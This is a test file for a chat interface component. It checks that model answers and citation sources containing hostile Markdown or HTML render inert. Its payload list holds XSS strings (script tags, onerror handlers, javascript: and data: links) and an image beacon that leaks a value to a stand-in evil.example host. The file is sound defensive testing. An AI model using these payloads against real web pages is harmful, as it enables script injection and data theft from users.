import { expect } from '@esm-bundle/chai';
import type { Citation } from '../src/index.js';
import { $, $$, cleanup, fixture, waitFor } from './helpers.js';

declare global {
  interface Window {
    __xss?: number;
  }
}

/** Answers a model or a poisoned source could produce. Each must render inert. */
const HOSTILE_ANSWERS: [string, string][] = [
  ['script tag', 'Hi <script>window.__xss=1</script> there'],
  ['block script', '<script>\nwindow.__xss=1\n</script>'],
  ['img onerror', 'x <img src=x onerror="window.__xss=1"> y'],
  ['block img onerror', '<img src=x onerror="window.__xss=1">'],
  ['svg onload', '<svg onload="window.__xss=1"><circle r=1 /></svg>'],
  ['iframe', '<iframe src="https://evil.example/"></iframe>'],
  ['style', '<style>*{display:none}</style>'],
  ['raw anchor', '<a href="javascript:window.__xss=1">click</a>'],
  ['javascript link', '[click me](javascript:window.__xss=1)'],
  ['javascript mixed case', '[click](JaVaScRiPt:window.__xss=1)'],
  ['javascript entity', '[click](javascript&colon;window.__xss=1)'],
  ['javascript with tab', '[click](java\tscript:window.__xss=1)'],
  ['javascript autolink', '<javascript:window.__xss=1>'],
  ['javascript reference', '[click][evil]\n\n[evil]: javascript:window.__xss=1'],
  ['vbscript link', '[click](vbscript:msgbox(1))'],
  ['data link', '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)'],
  ['data image', '![x](data:image/svg+xml,<svg onload=window.__xss=1>)'],
  ['image beacon', '![pixel](https://evil.example/beacon.gif?leak=secret)'],
  ['reference image beacon', '![pixel][b]\n\n[b]: https://evil.example/beacon.gif'],
  ['link title breakout', '[x](https://ok.example/ "a\\" onmouseover=\\"window.__xss=1")'],
  ['html in code span', '`<img src=x onerror=window.__xss=1>`'],
  ['html in fenced code', '```html\n<script>window.__xss=1</script>\n```'],
  ['entities', '&lt;script&gt;window.__xss=1&lt;/script&gt; &#60;img src=x onerror=window.__xss=1&#62;'],
  ['html in table', '| a | b |\n|---|---|\n| <img src=x onerror=window.__xss=1> | <script>window.__xss=1</script> |'],
  ['html in heading and quote', '# <img src=x onerror=window.__xss=1>\n\n> <iframe src=javascript:window.__xss=1>'],
  ['form', '<form action="https://evil.example"><input name=a><button>go</button></form>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">'],
  ['unterminated', '**bold `code <img src=x onerror=window.__xss=1> [link](javascript:'],
];

const HOSTILE_SOURCES: Citation[] = [
  { id: '1', title: '<img src=x onerror="window.__xss=1">', snippet: '<script>window.__xss=1</script>', url: 'javascript:window.__xss=1' },
  { id: '2', title: 'data', snippet: '<svg onload=window.__xss=1>', url: 'data:text/html,<script>window.__xss=1</script>' },
  { id: '3', title: 'fine', snippet: 'ok', url: 'https://docs.example/page' },
];

const FORBIDDEN = 'script, img, iframe, svg:not(button svg), style, object, embed, form, input, meta, link, video, audio, image';

function assertInert(root: ShadowRoot, label: string) {
  const scope = [...root.querySelectorAll('.log, .source-panel')];
  for (const s of scope) expect(s.querySelector(FORBIDDEN), `${label}: no active elements`).to.equal(null);
  for (const el of root.querySelectorAll('*')) {
    for (const a of el.attributes) {
      expect(a.name.startsWith('on'), `${label}: no ${a.name} attribute`).to.equal(false);
      if (a.name === 'href' || a.name === 'src' || a.name === 'action') {
        expect(new URL(a.value, document.baseURI).protocol, `${label}: ${a.name}=${a.value}`).to.match(/^(https?|mailto):$/);
      }
    }
  }
  for (const a of root.querySelectorAll('a[href]')) {
    if (a.closest('.log, .source-panel') && a.getAttribute('target') === '_blank') expect(a.getAttribute('rel')).to.equal('noopener noreferrer');
  }
  expect(window.__xss, `${label}: no script ran`).to.equal(undefined);
}

describe('hostile answers and sources render inert', () => {
  afterEach(cleanup);

  for (const [label, content] of HOSTILE_ANSWERS) {
    it(label, async () => {
      const el = await fixture();
      el.messages = [
        { id: 'u', role: 'user', content: content },
        { id: 'a', role: 'assistant', content: content + '\n\nSee [1] [2] [3].', status: 'done', context: { citations: HOSTILE_SOURCES } },
      ];
      await waitFor(() => $(el, '.msg.assistant .cite'), 'the Markdown renderer');
      await new Promise((r) => setTimeout(r, 30));
      assertInert(el.shadowRoot!, label);
      // What was raw HTML shows as its text.
      if (content.startsWith('<script>') || content.startsWith('<iframe')) expect($(el, '.msg.assistant .bubble')!.textContent).to.contain('<');
    });
  }

  it('sources with hostile titles, snippets and URLs', async () => {
    const el = await fixture();
    el.messages = [
      { id: 'u', role: 'user', content: 'q' },
      { id: 'a', role: 'assistant', content: 'See [1], [2] and [3].', status: 'done', context: { citations: HOSTILE_SOURCES } },
    ];
    await waitFor(() => $$(el, '.cite').length === 3, 'citation buttons');
    for (let i = 0; i < 3; i++) {
      $$(el, '.cite')[i]!.click();
      await el.updateComplete;
      const panel = $(el, '.source-panel')!;
      expect(panel.querySelector('h3')!.textContent).to.contain(HOSTILE_SOURCES[i]!.title);
      expect(panel.querySelector('.snippet')!.textContent).to.equal(HOSTILE_SOURCES[i]!.snippet);
      const link = panel.querySelector('a');
      if (i < 2) expect(link, 'unsafe source URL is not linked').to.equal(null);
      else expect(link!.href).to.equal('https://docs.example/page');
      assertInert(el.shadowRoot!, `source ${i + 1}`);
    }
  });

  it('keeps http, https and mailto links, opened safely', async () => {
    const el = await fixture();
    el.messages = [{ id: 'a', role: 'assistant', content: '[a](https://a.example/x) [b](http://b.example/) [c](mailto:c@example.com) <https://d.example/>', status: 'done' }];
    await waitFor(() => $$(el, '.bubble a').length === 4, 'links');
    const links = $$<HTMLAnchorElement>(el, '.bubble a');
    expect(links.map((a) => a.href)).to.deep.equal(['https://a.example/x', 'http://b.example/', 'mailto:c@example.com', 'https://d.example/']);
    for (const a of links) {
      expect(a.rel).to.equal('noopener noreferrer');
      expect(a.target).to.equal('_blank');
    }
  });

  it('a user message is shown as text', async () => {
    const el = await fixture();
    el.messages = [{ id: 'u', role: 'user', content: '<img src=x onerror="window.__xss=1"> **not bold**' }];
    await el.updateComplete;
    expect($(el, '.msg.user .bubble')!.textContent).to.equal('<img src=x onerror="window.__xss=1"> **not bold**');
    assertInert(el.shadowRoot!, 'user');
  });
});
